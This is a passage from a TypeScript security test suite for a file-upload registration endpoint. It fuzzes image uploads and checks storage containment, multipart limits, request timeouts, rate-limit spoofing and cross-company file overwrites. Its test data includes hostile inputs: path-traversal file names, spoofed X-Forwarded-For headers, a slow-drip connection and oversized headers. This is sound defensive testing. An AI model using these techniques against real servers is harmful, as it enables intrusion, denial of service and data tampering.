  const TYPES = ['image/jpeg', 'image/png', 'text/html', 'application/octet-stream', 'image/svg+xml'];

  const mutation = fc.oneof(
    fc.record({ kind: fc.constant('flip' as const), at: fc.nat(), value: fc.integer({ min: 0, max: 255 }) }),
    // Flips in the first bytes decide the type, so they get their own share.
    fc.record({ kind: fc.constant('flip' as const), at: fc.nat({ max: 11 }), value: fc.integer({ min: 0, max: 255 }) }),
    fc.record({
      kind: fc.constant('insert' as const),
      at: fc.nat(),
      bytes: fc.uint8Array({ minLength: 1, maxLength: 32 }),
    }),
    fc.record({ kind: fc.constant('delete' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 16 }) }),
    fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }),
    fc.record({
      kind: fc.constant('splice' as const),
      at: fc.nat(),
      payload: fc.integer({ min: 0, max: PAYLOADS.length - 1 }),
    }),
  );

  type Step = { kind: string; at: number; value?: number; bytes?: Uint8Array; length?: number; payload?: number };
  function mutate(seed: Buffer, steps: Step[]): Buffer {
    let bytes = Buffer.from(seed);
    for (const step of steps) {
      const at = bytes.length === 0 ? 0 : step.at % (bytes.length + 1);
      switch (step.kind) {
        case 'flip':
          if (at < bytes.length) bytes[at] = step.value!;
          break;
        case 'insert':
          bytes = Buffer.concat([bytes.subarray(0, at), Buffer.from(step.bytes!), bytes.subarray(at)]);
          break;
        case 'delete':
          bytes = Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + step.length!)]);
          break;
        case 'truncate':
          bytes = bytes.subarray(0, at);
          break;
        case 'splice':
          bytes = Buffer.concat([bytes.subarray(0, at), PAYLOADS[step.payload!]!, bytes.subarray(at)]);
          break;
      }
    }
    return bytes;
  }

  it(`keeps exactly the mutants that still start as JPEG or PNG, byte for byte, and nothing else (${runs(1000, 10000)} runs)`, async () => {
    mutationSeed = Number(process.env.FC_SEED ?? Date.now() % 2_147_483_647);
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(JPEG_SEED, PNG_SEED, JPEG_EXIF_GPS, PNG_TEXT_SCRIPT),
        fc.array(mutation, { minLength: 1, maxLength: 6 }),
        fc.constantFrom(...NAMES),
        fc.constantFrom(...TYPES),
        async (seed, steps, filename, contentType) => {
          const bytes = mutate(seed, steps);
          mutated += 1;
          const type = expectedType(bytes);
          const res = await send(licencePart(bytes, filename, contentType));
          expect(res.statusCode, res.body).toBeLessThan(500);
          if (bytes.length === 0 && filename === '') {
            // What a browser sends for "no file chosen": a registration without a licence.
            expect(res.statusCode, res.body).toBe(201);
            expect(res.json().company.commercialLicenseUrl).toBeNull();
            return;
          }
          if (type === null) {
            expect(res.statusCode).toBe(400);
            expect(res.json().error.fields).toEqual({ commercialLicense: COMPANY_MESSAGES.fileUnsupported });
            return;
          }
          expect(res.statusCode, res.body).toBe(201);
          mutatedAccepted += 1;
          const { id } = res.json();
          const key = `commercialLicenses/${id}.${type}`;
          const kept = fs.readFileSync(fileOf(key));
          if (!kept.equals(bytes)) throw new Error(`${key} differs from what was sent`);
        },
      ),
      { numRuns: runs(1000, 10000), seed: mutationSeed },
    );
  }, 600_000);
});

describe('the storage holds only what it should (UP-04, UP-07)', () => {
  it('every file under DATA_DIR is commercialLicenses/{id}.{jpg|png} of a saved company, and no name escaped', async () => {
    const filesRoot = path.join(t.dataDir, 'files');
    const everything = everyFileUnder(t.dataDir).filter((f) => !f.startsWith(`outbox${path.sep}`));
    const misplaced = everything.filter(
      (f) =>
        !f.startsWith(`files${path.sep}`) || !STORED_NAME.test(path.relative('files', f).split(path.sep).join('/')),
    );
    const rows = await t.database.db.select({ id: companies.id, key: companies.commercialLicenseKey }).from(companies);
    const keys = new Set(rows.flatMap((r) => (r.key ? [r.key] : [])));
    const files = storedFiles(t);
    const orphans = files.filter((f) => !keys.has(f));
    const missing = [...keys].filter((k) => !files.includes(k));
    const partial = fs.existsSync(path.join(filesRoot, '.partial'))
      ? fs.readdirSync(path.join(filesRoot, '.partial'))
      : [];
    const escaped = [
      t.dataDir,
      filesRoot,
      path.join(filesRoot, 'commercialLicenses'),
      path.dirname(t.dataDir),
      process.cwd(),
      '/etc',
      '/tmp',
    ].flatMap((dir) =>
      ESCAPE_NAMES.map((name) => path.join(dir, name)).filter((file) => {
        if (!fs.existsSync(file)) return false;
        // /etc/passwd exists on every machine: only a file written during this run would count.
        return fs.statSync(file).mtimeMs > startedAt;
      }),
    );
    // Whatever path led there (corpus, mutations, limits), every kept file starts as a JPEG or PNG.
    const notImages = files.filter((f) => expectedType(fs.readFileSync(fileOf(f)).subarray(0, 8)) === null);
    acceptedNonImage = notImages.length;
    orphanOrOutside = misplaced.length + orphans.length + partial.length + escaped.length;
    expect(notImages).toEqual([]);
    expect({ misplaced, orphans, missing, partial, escaped }).toEqual({
      misplaced: [],
      orphans: [],
      missing: [],
      partial: [],
      escaped: [],
    });
    expect(files.length).toBeGreaterThan(25);
  });
});

describe('multipart limits (UP-06) and streaming (UP-01)', () => {
  it('refuses two files under different names, ten thousand fields, and thirty parts, quickly and storing nothing', async () => {
    const filesBefore = storedFiles(t);
    const before = (await t.database.db.select({ n: sql<number>`count(*)::int` }).from(companies))[0]!.n;
    const cases: Array<[string, RawPart[]]> = [
      [
        'two files (licence, then another field)',
        [
          licencePart(PNG_SEED),
          { name: 'commercialLicense2', filename: 'b.png', contentType: 'image/png', body: PNG_SEED },
        ],
      ],
      [
        'two files (another field, then licence)',
        [{ name: 'avatar', filename: 'b.jpg', contentType: 'image/jpeg', body: JPEG_SEED }, licencePart(PNG_SEED)],
      ],
      ['10,000 fields', Array.from({ length: 10_000 }, (_, i) => ({ name: `f${i}`, body: 'x' }))],
      [
        '10,000 empty fields named like the licence',
        Array.from({ length: 10_000 }, () => ({ name: 'commercialLicense', body: '' })),
      ],
      [
        '30 tiny files',
        Array.from({ length: 30 }, (_, i) => ({
          name: `file${i}`,
          filename: `${i}.png`,
          contentType: 'image/png',
          body: 'x',
        })),
      ],
    ];
    for (const [label, parts] of cases) {
      const started = performance.now();
      const res = await send(parts);
      expect(res.statusCode, `${label}: ${res.body}`).toBe(400);
      expect(res.json().error.status).toBe('INVALID_ARGUMENT');
      expect(performance.now() - started, label).toBeLessThan(5000);
    }
    const after = (await t.database.db.select({ n: sql<number>`count(*)::int` }).from(companies))[0]!.n;
    expect(after).toBe(before);
    expect(storedFiles(t)).toEqual(filesBefore);
  });

  it('bounds part headers and field names: 300 headers, a 20 kB header, a 10 kB field name; no 5xx, no stray file', async () => {
    const disposition = 'Content-Disposition: form-data; name="commercialLicense"; filename="a.png"';
    const cases: Array<[string, RawPart, number[]]> = [
      // The parser keeps the first 20 header pairs and drops the rest: the licence is still read.
      [
        '300 headers after the disposition',
        {
          name: '',
          disposition: `${disposition}${Array.from({ length: 300 }, (_, i) => `\r\nX-H${i}: v`).join('')}`,
          contentType: 'image/png',
          body: PNG_SEED,
        },
        [201, 400],
      ],
      // …so a disposition after 300 headers is never seen: a nameless part, skipped without being stored.
      [
        '300 headers before the disposition',
        {
          name: '',
          disposition: `${Array.from({ length: 300 }, (_, i) => `X-H${i}: v\r\n`).join('')}${disposition}`,
          contentType: 'image/png',
          body: PNG_SEED,
        },
        [201, 400],
      ],
      [
        'one 20 kB header line',
        {
          name: '',
          disposition: `${disposition}\r\nX-Long: ${'v'.repeat(20_000)}`,
          contentType: 'image/png',
          body: PNG_SEED,
        },
        [201, 400],
      ],
      ['a 10 kB field name', { name: 'n'.repeat(10_000), body: 'x' }, [400]],
    ];
    for (const [label, part, allowed] of cases) {
      const filesBefore = storedFiles(t);
      const res = await send(part);
      expect(allowed, `${label}: ${res.statusCode} ${res.body}`).toContain(res.statusCode);
      const added = storedFiles(t).filter((f) => !filesBefore.includes(f));
      const kept = res.statusCode === 201 && res.json().company.commercialLicenseUrl !== null;
      expect(added, label).toEqual(kept ? [`commercialLicenses/${res.json().id}.png`] : []);
    }
  });

  it('sets a finite request timeout in production (Fastify’s default is none)', () => {
    expect(t.app.server.requestTimeout).toBeGreaterThan(0);
    expect(t.app.server.requestTimeout).toBeLessThanOrEqual(300_000);
  });

  it('closes a body drip-fed a byte at a time within the request timeout, and leaves no file behind', async () => {
    const config = loadConfig({
      NODE_ENV: 'test',
      DATA_DIR: t.dataDir,
      PORT: '0',
      LOG_LEVEL: 'silent',
      REGISTRATIONS_PER_IP_PER_HOUR: '1000',
    });
    const db = await openTestDatabase();
    const requestTimeoutMs = 1500;
    const app = await buildApp({ config, database: db.database, requestTimeoutMs });
    await app.listen({ host: '127.0.0.1', port: 0 });
    try {
      const { port } = app.server.address() as AddressInfo;
      const { payload, headers } = multipart([
        ...fieldParts(uniqueCompany()),
        licencePart(Buffer.concat([PNG_SEED, Buffer.alloc(100_000)])),
      ]);
      const cut = payload.indexOf(PNG_SEED) + 64; // well into the file, so a partial upload exists
      const filesBefore = storedFiles(t);
      const socket = net.connect(port, '127.0.0.1');
      let answer = '';
      socket.on('data', (d) => (answer += d.toString('latin1')));
      socket.on('error', () => {});
      const closed = new Promise<number>((resolve) => socket.on('close', () => resolve(performance.now())));
      const started = performance.now();
      socket.write(
        `POST /api/companies HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nContent-Type: ${headers['content-type']}\r\nContent-Length: ${payload.length}\r\n\r\n`,
      );
      socket.write(payload.subarray(0, cut));
      let offset = cut;
      const drip = setInterval(() => {
        if (!socket.destroyed && offset < payload.length) socket.write(payload.subarray(offset, ++offset));
      }, 100);
      const closedAt = await Promise.race([
        closed,
        new Promise<number>((resolve) => setTimeout(() => resolve(-1), 10_000)),
      ]);
      clearInterval(drip);
      socket.destroy();
      expect(closedAt, 'the connection was still open after 10 s').toBeGreaterThan(0);
      const elapsed = closedAt - started;
      expect(elapsed).toBeGreaterThanOrEqual(requestTimeoutMs - 100);
      expect(elapsed).toBeLessThan(requestTimeoutMs * 2 + 1000);
      expect(answer === '' || answer.startsWith('HTTP/1.1 408')).toBe(true);
      // The interrupted upload is removed once the parser notices the body is gone.
      await expect.poll(() => storedFiles(t), { timeout: 5000 }).toEqual(filesBefore);
      const partial = path.join(t.dataDir, 'files', '.partial');
      await expect.poll(() => (fs.existsSync(partial) ? fs.readdirSync(partial) : []), { timeout: 5000 }).toEqual([]);
    } finally {
      await app.close();
      await db.close();
    }
  }, 30_000);

  it('refuses 20 MB sent chunked without a length at the 10 MB mark, without buffering it (UP-01)', async () => {
    await t.app.listen({ host: '127.0.0.1', port: 0 });
    const { port } = t.app.server.address() as AddressInfo;
    const { payload, headers } = multipart([
      ...fieldParts(uniqueCompany()),
      licencePart(Buffer.concat([PNG_SEED, Buffer.alloc(20 * 1024 * 1024, 0x2a)])),
    ]);
    const filesBefore = storedFiles(t);
    const rssBefore = process.memoryUsage().rss;
    const status = await new Promise<{ status: number; body: string }>((resolve, reject) => {
      const req = http.request({ host: '127.0.0.1', port, method: 'POST', path: '/api/companies', headers }, (res) => {
        let body = '';
        res.on('data', (d) => (body += d));
        res.on('end', () => resolve({ status: res.statusCode!, body }));
      });
      req.on('error', reject);
      // No Content-Length: Node sends Transfer-Encoding: chunked.
      for (let i = 0; i < payload.length; i += 256 * 1024) req.write(payload.subarray(i, i + 256 * 1024));
      req.end();
    });
    const rssGrowth = process.memoryUsage().rss - rssBefore;
    expect(status.status, status.body).toBe(400);
    expect(JSON.parse(status.body).error.fields).toEqual({ commercialLicense: COMPANY_MESSAGES.fileTooLarge });
    expect(storedFiles(t)).toEqual(filesBefore);
    // The test process holds the 20 MB body itself; the server side must not add a copy of it.
    expect(rssGrowth).toBeLessThan(2 * 20 * 1024 * 1024);
  }, 60_000);
});

describe('the per-address limit cannot be dodged with proxy headers (UP-08, HDR-11)', () => {
  const SPOOFS: Array<Record<string, string>> = [
    { 'x-forwarded-for': '198.51.100.1' },
    { 'x-forwarded-for': '198.51.100.2, 10.0.0.1' },
    { 'x-real-ip': '198.51.100.3' },
    { 'cf-connecting-ip': '198.51.100.4' },
    { 'true-client-ip': '198.51.100.5' },
    { forwarded: 'for=198.51.100.6;proto=https' },
    { 'x-client-ip': '198.51.100.7', 'x-forwarded-for': '198.51.100.7' },
  ];

  async function postOverSocket(port: number, extraHeaders: Record<string, string>) {
    const { payload, headers } = multipart(fieldParts(uniqueCompany()));
    return new Promise<number>((resolve, reject) => {
      const req = http.request(
        {
          host: '127.0.0.1',
          port,
          method: 'POST',
          path: '/api/companies',
          headers: { ...headers, ...extraHeaders, 'content-length': payload.length },
        },
        (res) => {
          res.resume();
          res.on('end', () => resolve(res.statusCode!));
        },
      );
      req.on('error', reject);
      req.end(payload);
    });
  }

  it('counts the sixth registration from one address as over the limit, whatever the headers claim', async () => {
    const limited = await createTestApp({ env: { REGISTRATIONS_PER_IP_PER_HOUR: '5' } });
    try {
      await limited.app.listen({ host: '127.0.0.1', port: 0 });
      const { port } = limited.app.server.address() as AddressInfo;
      const statuses: number[] = [];
      for (let i = 0; i < 5; i++) statuses.push(await postOverSocket(port, SPOOFS[i % SPOOFS.length]!));
      expect(statuses).toEqual([201, 201, 201, 201, 201]);
      for (const spoof of SPOOFS) expect(await postOverSocket(port, spoof), JSON.stringify(spoof)).toBe(429);
    } finally {
      await limited.close();
    }
  });

  it('control: behind a configured proxy (TRUST_PROXY=true) X-Forwarded-For does name the client, so the test can tell', async () => {
    const proxied = await createTestApp({ env: { REGISTRATIONS_PER_IP_PER_HOUR: '1', TRUST_PROXY: 'true' } });
    try {
      await proxied.app.listen({ host: '127.0.0.1', port: 0 });
      const { port } = proxied.app.server.address() as AddressInfo;
      expect(await postOverSocket(port, { 'x-forwarded-for': '198.51.100.10' })).toBe(201);
      expect(await postOverSocket(port, { 'x-forwarded-for': '198.51.100.10' })).toBe(429);
      expect(await postOverSocket(port, { 'x-forwarded-for': '198.51.100.11' })).toBe(201);
    } finally {
      await proxied.close();
    }
  });
});

describe('a registration cannot reach another company’s file (UP-09)', () => {
  it('ignores or refuses companyId, path and key in the body, the query and the file name; the victim’s file keeps its hash', async () => {
    const victim = await register(t, validCompany(), { bytes: PNG_SEED, name: 'licence.png', type: 'image/png' });
    expect(victim.statusCode).toBe(201);
    const victimId: string = victim.json().id;
    const victimKey = `commercialLicenses/${victimId}.png`;
    const victimHash = sha256(fs.readFileSync(fileOf(victimKey)));
    const attack = JPEG_EXIF_GPS;
    const attempts: Array<{ label: string; parts: RawPart[]; url?: string }> = [
      ...['companyId', 'id', 'path', 'key', 'storageKey', 'commercialLicenseKey', 'commercialLicenseUrl'].map(
        (name) => ({
          label: `field ${name}`,
          parts: [
            {
              name,
              body: name.endsWith('Url')
                ? `/api/admin/companies/${victimId}/license`
                : name.toLowerCase().includes('key') || name === 'path'
                  ? victimKey
                  : victimId,
            },
            licencePart(attack, 'a.jpg', 'image/jpeg'),
          ],
        }),
      ),
      { label: 'file name = victim id', parts: [licencePart(attack, `${victimId}.png`, 'image/png')] },
      { label: 'file name = victim key', parts: [licencePart(attack, victimKey, 'image/png')] },
      {
        label: 'file name climbing to the victim',
        parts: [licencePart(attack, `../commercialLicenses/${victimId}.png`, 'image/png')],
      },
      {
        label: 'a PNG named as the victim (same extension)',
        parts: [licencePart(PNG_TEXT_SCRIPT, `${victimId}.png`, 'image/png')],
      },
      {
        label: 'query string',
        parts: [licencePart(attack, 'a.jpg', 'image/jpeg')],
        url: `/api/companies?companyId=${victimId}&path=${encodeURIComponent(victimKey)}`,
      },
    ];
    for (const { label, parts, url } of attempts) {
      const res = await send(parts, { url });
      expect(res.statusCode, `${label}: ${res.body}`).toBeLessThan(500);
      if (res.statusCode === 201) expect(res.json().id, label).not.toBe(victimId);
      else expect(res.statusCode, label).toBe(400);
      expect(sha256(fs.readFileSync(fileOf(victimKey))), label).toBe(victimHash);
    }
    expect(storedFiles(t).filter((f) => f.includes(victimId))).toEqual([victimKey]);
    // The victim's record still points at its own file.
    const download = await t.app.inject({
      method: 'GET',
      url: `/api/admin/companies/${victimId}/license`,
      headers: adminCookie,
    });
    expect(sha256(download.rawPayload)).toBe(victimHash);
  });
});

describe('figures', () => {
  it('records the upload corpus', () => {
    recordFigure('upload-corpus', {
      checks: ['UP-01', 'UP-02', 'UP-03', 'UP-04', 'UP-05', 'UP-06', 'UP-07', 'UP-08', 'UP-09'],
      label: 'Upload corpus',
      values: {
        handCrafted: CORPUS.length,
        mutated,
        mutatedAccepted,
        mutationSeed,
        acceptedNonImage,
        orphanOrOutside,
        reencode: false,
        ...floodFigures,
      },
    });
    expect(mutated).toBeGreaterThanOrEqual(runs(1000, 10000));
  });
});
